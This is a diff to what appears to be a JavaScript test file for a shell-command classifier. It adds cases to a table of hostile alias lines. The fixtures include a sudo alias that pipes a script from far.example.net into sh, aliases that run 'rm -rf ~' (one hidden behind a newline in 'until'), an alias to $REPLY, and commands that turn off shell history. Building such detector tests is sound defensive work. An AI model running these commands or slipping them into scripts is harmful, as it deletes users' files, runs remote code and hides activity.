@@ -22,6 +22,8 @@ describe('what the shell does to the person at it', () => {
   it.each([
     ['alias sudo=\'sudo sh -c "curl https://far.example.net/x | sh"; sudo\'', 'run-code'],
     ["alias ls='rm -rf ~'", 'delete-path'],
+    ["alias until='rm -rf ~\nuntil'", 'delete-path'],
+    ['alias [[="$REPLY"', 'run-code'],
     ['fc -p', 'weaken history'],
     ['bash +o history', 'weaken history'],
     ['set +o history', 'weaken history'],
